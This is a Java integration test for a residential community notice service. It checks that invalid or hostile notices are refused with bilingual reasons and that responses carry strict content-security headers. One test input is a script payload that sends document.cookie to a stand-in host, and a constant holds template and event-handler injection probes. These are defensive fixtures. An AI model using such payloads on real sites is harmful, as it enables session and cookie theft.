package org.commonhold.notice;

import static org.assertj.core.api.Assertions.assertThat;

import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import javax.sql.DataSource;
import org.commonhold.api.RefusalCode;
import org.commonhold.api.model.InboxItem;
import org.commonhold.api.model.Notice;
import org.commonhold.identity.CurrentPerson.Role;
import org.commonhold.testing.OwnerFixture.Device;
import org.commonhold.testing.ServiceClient;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Every bad notice that somebody could think of first, one after the other over HTTP: each is refused with its reason in both languages,
 * and nobody's inbox has anything of it. What does get through is data under a policy that runs no script of it; that both apps show it as
 * text is in {@code harmless.test.ts}.
 */
@MicronautTest(transactional = false)
class NoticeHarmlessTest {
    private static final int TWENTY_MEGABYTES = 20 * 1024 * 1024;
    private static final String LIKE_SCRIPT = "javascript:alert(1) {{7*7}} ${7*7} onerror=alert(1) 1 < 2 & 3 > 2 '\"";

    @Inject
    EmbeddedServer server;

    @Inject
    DataSource database;

    private NoticeDriver driver;
    private ServiceClient worker;
    private Device phone;

    @BeforeEach
    void start() {
        driver = new NoticeDriver(server, 1);
        worker = driver.worker.client();
        phone = driver.phone(0);
    }

    @Test
    void badNotices_eachWithItsReason_leaveNothingInAnyInbox() {
        long before = items();
        refused(
                "an empty audience",
                worker.post(driver.path(""), NoticeDriver.draft("SAFETY", Map.of("roles", List.of("GUARDIAN")))),
                RefusalCode.NOTICE_AUDIENCE_EMPTY);
        refused(
                "a role that may not",
                driver.official(Role.PROPERTY_STAFF).client().post(driver.path(""), NoticeDriver.draft("ASSEMBLY")),
                RefusalCode.NOTICE_KIND_NOT_ALLOWED);
        refused(
                "another community",
                worker.post(new NoticeDriver(server, 1).path(""), NoticeDriver.draft("SAFETY")),
                RefusalCode.NOT_FOUND);
        Map<String, Object> script = NoticeDriver.draft("SAFETY");
        script.put("body", Map.of("zh-CN", "通知<script>fetch('//elsewhere.example/'+document.cookie)</script>"));
        refused("script in the text", worker.post(driver.path(""), script), RefusalCode.NOTICE_TEXT_MARKUP);
        Map<String, Object> past = NoticeDriver.draft("SAFETY");
        past.put("sendAt", "2020-01-01T00:00:00Z");
        refused("a time in the past", worker.post(driver.path(""), past), RefusalCode.NOTICE_SCHEDULE_PAST);
        Notice draft = driver.written(worker, NoticeDriver.draft("SAFETY"));
        byte[] large = new byte[TWENTY_MEGABYTES];
        System.arraycopy("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII), 0, large, 0, 9);
        refused(
                "an attachment of 20 MB",
                driver.attach(worker, draft.getNoticeId(), "大文件.pdf", large),
                RefusalCode.NOTICE_ATTACHMENTS_TOO_LARGE);
        Map<String, Object> danger = NoticeDriver.draft("EMERGENCY");
        danger.put("validUntil", "2099-01-01T00:00:00Z");
        String emergency = driver.written(worker, danger).getNoticeId();
        driver.send(worker, emergency).ok();
        refused(
                "approved by its own author",
                worker.post(driver.path("/" + emergency + "/approval"), Map.of()),
                RefusalCode.NOTICE_OWN_APPROVAL);

        assertThat(items()).isEqualTo(before);
        assertThat(driver.read(draft.getNoticeId()).getAttachments()).isEmpty();
    }

    @Test
    void textThatOnlyLooksLikeScript_isDataUnderAPolicyThatRunsNone() {
        Map<String, Object> draft = NoticeDriver.draft("SAFETY");
        draft.put("title", Map.of("zh-CN", LIKE_SCRIPT, "en", LIKE_SCRIPT));
        draft.put("body", Map.of("zh-CN", LIKE_SCRIPT, "en", LIKE_SCRIPT));
        Notice notice = driver.sent(draft);
        InboxItem item = NoticeDriver.inbox(phone.client()).getItems().stream()
                .filter(each -> notice.getNoticeId().equals(each.getNoticeId()))
                .findFirst()
                .orElseThrow();
        assertThat(item.getTitle().getZhCN()).isEqualTo(LIKE_SCRIPT);

        List<ServiceClient.Answer> answers = List.of(
                phone.client().get("/api/resident/inbox"),
                phone.client().get("/api/resident/inbox/" + item.getItemId()),
                worker.get(driver.path("/" + notice.getNoticeId())),
                worker.get(driver.path("")));
        for (ServiceClient.Answer answer : answers) {
            assertThat(answer.ok().header("content-type")).startsWith("application/json");
            assertHarmless(answer);
        }
        assertHarmless(phone.client().get("/m/"));
        assertHarmless(worker.get("/console/"));
    }

    /** No script but the app's own files, no frame, no plug-in, and no guess of another type. */
    private static void assertHarmless(ServiceClient.Answer answer) {
        assertThat(answer.header("x-content-type-options")).isEqualTo("nosniff");
        assertThat(answer.header("content-security-policy"))
                .contains("default-src 'none'", "script-src 'self'", "base-uri 'none'")
                .doesNotContain("unsafe-inline", "unsafe-eval", "*", "data: 'self'");
    }

    private static void refused(String what, ServiceClient.Answer answer, RefusalCode code) {
        answer.refused(code);
        assertThat(answer.json().get("titles"))
                .as("the reason against " + what)
                .asString()
                .contains("zh-CN=", "en=");
    }

    private long items() {
        return NoticeDriver.count(
                database,
                "SELECT COUNT(*) FROM inbox_item WHERE community_id = ? AND notice_id IS NOT NULL",
                driver.community.communityId());
    }
}
